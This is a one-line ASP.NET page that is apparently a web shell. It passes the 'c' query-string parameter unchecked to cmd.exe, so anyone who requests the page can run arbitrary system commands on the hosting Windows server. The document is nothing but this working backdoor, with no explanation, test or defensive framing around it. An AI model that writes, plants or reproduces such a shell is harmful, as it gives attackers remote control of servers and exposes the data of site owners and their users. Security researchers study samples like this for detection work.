<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %>
